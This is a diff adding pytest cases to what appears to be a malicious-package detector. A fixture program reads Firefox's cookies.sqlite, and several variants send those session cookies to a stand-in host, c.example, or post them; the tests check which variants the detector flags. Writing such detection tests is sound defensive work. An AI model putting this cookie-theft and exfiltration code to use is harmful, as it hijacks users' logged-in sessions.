@@ -234,3 +234,36 @@ def test_what_looks_settings_up_by_name_gives_other_modules_no_more_than_who_run
     gives = {name: gift.labels for name, gift in analyse.module("demo/settings.py", RUN_TOKEN.encode()).gives}
     address = "https://run.actions.githubusercontent.com/\u2026"
     assert gives == {"token_of_run": (f"cloud-metadata:{address}",), "lookup": (f"host-identity:{address}",)}
+
+
+_COOKIES = """
+import argparse, os, requests, sqlite3
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("url"OPTION)
+    given = parser.parse_args()
+    store = sqlite3.connect(os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite"))
+    rows = store.execute("select name, value from moz_cookies")
+    session = requests.Session()
+    session.cookies.update(dict(rows))
+    SEND
+"""
+_PROGRAM = '[project]\nname = "demo"\nversion = "1"\nscripts = {demo = "demo.cli:main"}\n'
+
+
+@pytest.mark.parametrize(
+    ("option", "send", "accused"),
+    [
+        ("", "session.get(given.url)", False),
+        ("", "requests.get(given.url, cookies=dict(rows))", False),
+        (", nargs='?', default='https://c.example/'", "session.get(given.url)", True),
+        ("", "session.get(given.url or 'https://c.example/')", True),
+        ("", "session.get('https://c.example/?of=' + given.url)", True),
+        ("", "session.get(requests.get('https://c.example/').text)", True),
+        ("", "session.get(open(os.path.join(os.path.dirname(__file__), 'site.txt')).read())", True),
+        ("", "requests.post(given.url, data=dict(rows))", True),
+    ],
+)
+def test_cookies_of_a_browser_go_to_the_site_that_the_user_names(option: str, send: str, accused: bool) -> None:
+    program = _COOKIES.replace("OPTION", option).replace("SEND", send)
+    assert bool(found({**init(""), "pyproject.toml": _PROGRAM, "demo/cli.py": program})) is accused
